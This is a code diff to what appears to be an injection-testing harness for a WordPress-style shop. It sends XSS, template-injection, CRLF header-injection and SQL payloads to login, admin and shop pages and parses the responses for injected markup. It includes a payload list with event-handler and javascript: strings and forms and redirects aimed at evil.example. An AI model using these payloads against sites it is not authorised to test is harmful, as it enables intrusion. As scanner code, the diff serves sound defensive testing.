@@ -1,54 +1,8 @@
-import { parse, type DefaultTreeAdapterTypes } from 'parse5'
+import { checkPage } from './page-check.js'
+import { attackForms } from './page-forms.js'
+import { payloads } from './payloads.js'
 import type { Member } from './protocol.js'
-import { basicOf, inParallel, type ReceivedResponse, type Target } from './target.js'
-
-/** The name of elements and attributes that nothing but an attack makes. */
-const mark = 'xss7'
-/** 7 × 7,777, which no page contains unless a template computed it. */
-const product = '54439'
-
-const payloads: readonly string[] = [
-  `<${mark}>`,
-  `"><${mark}>`,
-  `'><${mark}>`,
-  `</title><${mark}>`,
-  `</textarea><${mark}>`,
-  `</script><${mark}>`,
-  `--><${mark}>`,
-  `]]><${mark}>`,
-  `</style><${mark}>`,
-  `<img src=x onerror=${mark}()>`,
-  `<svg/onload=${mark}()>`,
-  `<a href="javascript:${mark}()">a</a>`,
-  `<a href="java&#115;cript:${mark}()">a</a>`,
-  `<a href=" &#14;javascript:${mark}()">a</a>`,
-  `<a style="background:url(javascript:${mark}())">a</a>`,
-  `<iframe srcdoc="<${mark}>"></iframe>`,
-  `<form action="https://evil.example"><input name=${mark}>`,
-  `<base href="https://evil.example/">`,
-  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
-  `<math><mi//xlink:href="data:x,<script>${mark}()</script>">`,
-  `<noscript><p title="</noscript><${mark}>">`,
-  `<p title="${mark}" ${mark}=1 onclick=${mark}()>a</p>`,
-  `" ${mark}="1`,
-  `' ${mark}='1`,
-  `x ${mark}=1 `,
-  `" onfocus="${mark}()" autofocus="`,
-  `&lt;${mark}&gt;`,
-  `&#60;${mark}&#62;`,
-  `\\u003c${mark}\\u003e`,
-  `<\0${mark}>`,
-  `<%= 7*7777 %>`,
-  `<%~ 7*7777 %>`,
-  `{{7*7777}}`,
-  `\${7*7777}`,
-  `#{7*7777}`,
-  `<?php echo 7*7777 ?>`,
-  `[gallery]<${mark}>[/gallery]`,
-  `<!-- wp:html --><${mark}><!-- /wp:html -->`,
-  `\ud800<${mark}>`,
-  `\r\nX-Injected: 1\r\n\r\n<${mark}>`,
-]
+import { basicOf, inParallel, type Target } from './target.js'
 
 const sqlTexts: readonly string[] = [
   "' OR '1'='1",
@@ -86,6 +40,7 @@ const serializedTexts: readonly unknown[] = [
 export async function attackWithInjection(target: Target): Promise<void> {
   await pages(target)
   await contents(target)
+  await attackForms(target)
   await headers(target)
   await sql(target)
   for (const text of serializedTexts) {
@@ -120,7 +75,19 @@ async function pages(target: Target): Promise<void> {
       [`/wp-login.php?redirect_to=${encoded}`],
       [`/wp-login.php?action=${encoded}`],
       [`/wp-login.php?loggedout=${encoded}&wp_lang=${encoded}`],
-      [`/wp-login.php?action=lostpassword&user_login=${encoded}`],
+      [`/wp-login.php?action=lostpassword&user_login=${encoded}&redirect_to=${encoded}`],
+      [`/wp-login.php?action=lostpassword&error=${encoded}`],
+      [`/wp-login.php?checkemail=${encoded}`],
+      [`/wp-login.php?action=rp&login=${encoded}&key=${encoded}`],
+      [`/wp-login.php?action=postpass&redirect_to=${encoded}`],
+      [`/product/?s=${encoded}`],
+      [`/product/page/${encoded}/`],
+      [`/category/${encoded}/`],
+      [`/author/${encoded}/`],
+      [`/?paged=2&s=${encoded}`],
+      [`/?category_name=${encoded}&paged=${encoded}`],
+      [`/?author_name=${encoded}`],
+      [`/?post_type=${encoded}`, cookie],
       [`/wp-login.php?action=logout&_wpnonce=${encoded}`, cookie],
       [`/wp-admin/profile.php?${encoded}=${encoded}&updated=${encoded}`, cookie],
       [`/wp-admin/authorize-application.php?app_name=${encoded}`, cookie],
@@ -152,21 +119,34 @@ async function contents(target: Target): Promise<void> {
   for (const payload of payloads) {
     const text = payload.toWellFormed()
     const { service } = target
-    const id = await service.call<number>('record', {
-      type: 'post',
+    const wish = {
       status: 'publish',
       author: author.id,
       title: `t ${text}`,
       content: `c ${text}`,
       excerpt: `e ${text}`,
-    })
-    for (const path of [`/?p=${id}`, '/', '/wp-json/shop/v1/partials/posts']) {
-      const first = await target.ask('GET', path)
-      const location = first.header('location')
-      const response = location === null ? first : await target.ask('GET', new URL(location, target.site.url).pathname)
-      checkPage(target, response, `${path} with ${payload}`)
     }
-    await service.call('deleteRecord', id)
+    const term = await service.call<{ slug: string }>('term', { name: `n ${text}`, description: `d ${text}` })
+    const shown: readonly (readonly [wish: object, paths: readonly string[]])[] = [
+      [
+        { ...wish, type: 'post', terms: { category: [term.slug] } },
+        ['/', `/category/${term.slug}/`, `/author/${author.login}/`, '/?s=t', '/wp-json/shop/v1/partials/posts'],
+      ],
+      [{ ...wish, type: 'product', terms: { category: [term.slug] } }, ['/product/', `/category/${term.slug}/`]],
+      [{ ...wish, type: 'post', password: text }, ['/', '/?s=t']],
+    ]
+    for (const [record, paths] of shown) {
+      const id = await service.call<number>('record', record)
+      for (const path of [`/?p=${id}`, ...paths]) {
+        const first = await target.ask('GET', path)
+        const location = first.header('location')
+        const response = location === null ? first : await target.ask('GET', pathIn(target, location))
+        // A template of a card or a page of the shop would otherwise not be looked at.
+        if (!path.startsWith('/?p=') && response.status !== 200) target.check(`${path} is ${response.status}.`)
+        checkPage(target, response, `${path} with ${payload}`)
+      }
+      await service.call('deleteRecord', id)
+    }
     // By an author, whose HTML is filtered.
     const body = JSON.stringify({ title: payload, content: payload, price: 1 })
     const headers = { Authorization: basicOf(author, author.applicationPassword), 'Content-Type': 'application/json' }
@@ -181,6 +161,11 @@ async function contents(target: Target): Promise<void> {
     await service.call('deleteRecord', productId)
   }
   await builtInPages(target, admin)
+}
+
+function pathIn(target: Target, location: string): string {
+  const { pathname, search } = new URL(location, target.site.url)
+  return pathname + search
 }
 
 /** What the profile shows of its user: names, passwords, browsers. */
@@ -224,58 +209,6 @@ async function builtInPages(target: Target, admin: Member): Promise<void> {
       await target.service.call('revoke', { id: admin.id, uuid })
     }
   }
-}
-
-type Node = DefaultTreeAdapterTypes.Node
-type Element = DefaultTreeAdapterTypes.Element
-
-/** Parses the page as a browser does, and looks for what the payloads would have made. */
-function checkPage(target: Target, response: ReceivedResponse, what: string): void {
-  if (response.wire.headers.some(([name]) => name === 'x-injected')) target.check(`${what}: a header was injected.`)
-  if (response.status >= 500 && !what.startsWith('/wp-admin/authorize-application.php'))
-    target.check(`${what}: ${response.status}`)
-  const type = response.header('content-type') ?? ''
-  if (!type.startsWith('text/html') && !type.startsWith('application/json')) {
-    target.check(type.includes('javascript') || type.includes('svg') ? `${what} is ${type}.` : null)
-    return
-  }
-  if (type.startsWith('application/json')) {
-    const { html } = (response.status === 200 ? response.json() : {}) as { readonly html?: string }
-    target.check(html === undefined ? null : faultIn(html, what))
-    return
-  }
-  if (response.header('x-content-type-options') !== 'nosniff') target.check(`${what}: without nosniff.`)
-  target.check(faultIn(response.text, what))
-}
-
-function faultIn(text: string, what: string): string | null {
-  if (text.includes(product)) return `${what}: a template was computed.`
-  const faults: string[] = []
-  const visit = (node: Node): void => {
-    if ('attrs' in node) faults.push(...faultsOfElement(node))
-    if ('content' in node) visit(node.content)
-    if ('childNodes' in node) for (const child of node.childNodes) visit(child)
-  }
-  visit(parse(text))
-  return faults.length > 0 ? `${what}: ${faults.join(', ')}` : null
-}
-
-const active = new Set(['iframe', 'object', 'embed', 'base', 'svg', 'applet', 'frame'])
-
-function faultsOfElement({ tagName, attrs }: Element): string[] {
-  const faults: string[] = []
-  if (tagName.includes(mark) || active.has(tagName)) faults.push(`the element ${tagName}`)
-  if (tagName === 'meta' && attrs.some(({ name, value }) => name === 'http-equiv' && value === 'refresh'))
-    faults.push('a refresh')
-  for (const { name, value } of attrs) {
-    if (name === mark || name.startsWith('on')) faults.push(`the attribute ${name}`)
-    const isAddress = ['href', 'src', 'action', 'formaction', 'srcdoc', 'xlink:href'].includes(name)
-    if (isAddress && /^[\0-\x20]*(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|vbscript|data:text)/i.test(value))
-      faults.push(`the address ${value}`)
-    if (name === 'style' && /javascript|expression/i.test(value)) faults.push(`the style ${value}`)
-    if (name === 'action' && value.includes('evil.example')) faults.push('a form that leads away')
-  }
-  return faults
 }
 
 /** What is sent back in headers and in JSON. */
